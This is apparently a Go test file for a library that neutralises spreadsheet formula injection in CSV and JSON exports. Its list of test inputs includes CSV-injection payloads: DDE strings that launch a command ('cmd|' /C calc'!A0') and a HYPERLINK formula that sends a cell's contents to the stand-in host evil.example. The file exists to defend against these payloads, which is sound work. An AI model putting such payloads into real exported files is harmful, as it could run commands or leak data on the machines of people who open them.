package sheet_test

import (
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/valetkey/valetkey/shared/sheet"
)

// formulas is what a spreadsheet would run, or send somewhere.
var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(1)", "=", "=HYPERLINK(\"https://evil.example?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0", "+HYPERLINK(\"https://evil.example\")", "\t=1", "\r=1", "\n=1", "\tplain", "\rplain", "\nplain", " =1", "\u00a0=1",
	"\u3000@x", "\ufeff=1", "\u200b=1", "\u202e=1", "\x00=1", "\x1f+1", "\v-1", "＝1", "＋1", "－1", "＠x", " ＝1", "=\"a\",\"b\"", "-", "--", "+49 30 1234",
}

func TestNoCellBeginsAFormula(t *testing.T) {
	for _, f := range formulas {
		if got := sheet.Cell(f); got != "'"+f {
			t.Errorf("%q became %q", f, got)
		}
	}
	for _, plain := range []string{
		"", " ", "Ann", "'", "'=1", "a=1", "1-1", "0", "ann+shop@example.com", "https://x.example/?a=-1", "2026-03-02T09:00:00.000Z", "\"=1\"",
		"Ćić", "株式会社", "مريم", "שלום", "Ωmega", "👩‍💻", "\u200e", ";=1", ",=1",
	} {
		if got := sheet.Cell(plain); got != plain {
			t.Errorf("%q became %q", plain, got)
		}
	}
}

func TestEveryTextComesBackFromItsCell(t *testing.T) {
	hostile := append([]string{
		"", "a,b", `say "hi"`, `"`, `""`, "two\nlines", "a\"\n,b", "a;b\tc", "\\", "Ann\u2028O'Neil", "مريم,\"x\"", "株式\n会社", "a\r\nb", strings.Repeat("x\"", 2000),
	}, formulas...)
	line := sheet.CSV(hostile...)
	got, err := csv.NewReader(strings.NewReader(string(line) + string(sheet.CSV("next", "line")))).Read()
	if err != nil || len(got) != len(hostile) {
		t.Fatalf("%d cells of %d: %v", len(got), len(hostile), err)
	}
	for i, want := range hostile {
		want = strings.ReplaceAll(sheet.Cell(want), "\r\n", "\n") // as every reader of CSV does
		if got[i] != want {
			t.Errorf("%q is read as %q", want, got[i])
		}
	}
}

func TestALineOfJSONIsOneLine(t *testing.T) {
	all := map[string]string{}
	for _, f := range append(slices.Clone(formulas), "<b>&", "a\nb\u2028c") {
		all[f] = f
	}
	line, err := sheet.JSON(all)
	if err != nil || strings.Count(string(line), "\n") != 1 || !strings.HasSuffix(string(line), "}\n") || !strings.Contains(string(line), "<b>&") {
		t.Fatalf("%q, %v", line, err)
	}
	got := map[string]string{}
	if err := json.Unmarshal(line, &got); err != nil || len(got) != len(all) {
		t.Errorf("%v: %v", got, err)
	}
	if _, err := sheet.JSON(func() {}); err == nil {
		t.Error("a function is a line")
	}
}
